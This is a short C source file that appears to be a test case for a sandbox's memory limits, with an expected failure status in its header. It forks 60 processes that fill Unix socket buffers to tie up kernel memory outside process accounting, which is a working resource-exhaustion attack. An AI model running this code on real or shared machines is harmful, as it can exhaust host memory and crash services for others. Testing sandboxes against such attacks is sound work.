// status: fail timeout, out of memory, crash
// seconds: 10
// What is in sockets and in no process: pairs of them, filled, in one process after another that keeps its own.
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <unistd.h>

static void fill(volatile long *mebibytes) {
  static const char block[65536];
  long bytes = 0;
  for (int pair[2]; socketpair(AF_UNIX, SOCK_STREAM, 0, pair) == 0;)
    for (int i = 0; i < 2; i++) {
      const int large = 64 << 20;
      setsockopt(pair[i], SOL_SOCKET, SO_SNDBUF, &large, sizeof large);
      fcntl(pair[i], F_SETFL, O_NONBLOCK);
      for (ssize_t n; (n = write(pair[i], block, sizeof block)) > 0;)
        bytes += n;
    }
  __atomic_fetch_add(mebibytes, bytes >> 20, __ATOMIC_SEQ_CST);
}

static void attack(void) {
  volatile long *mebibytes = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
  for (int i = 0; i < 60; i++)
    if (fork() == 0) {
      fill(mebibytes);
      pause();
    }
  sleep(2);
  if (*mebibytes > 1200)
    printf("got hold of %ld MiB in sockets\n", *mebibytes);
}
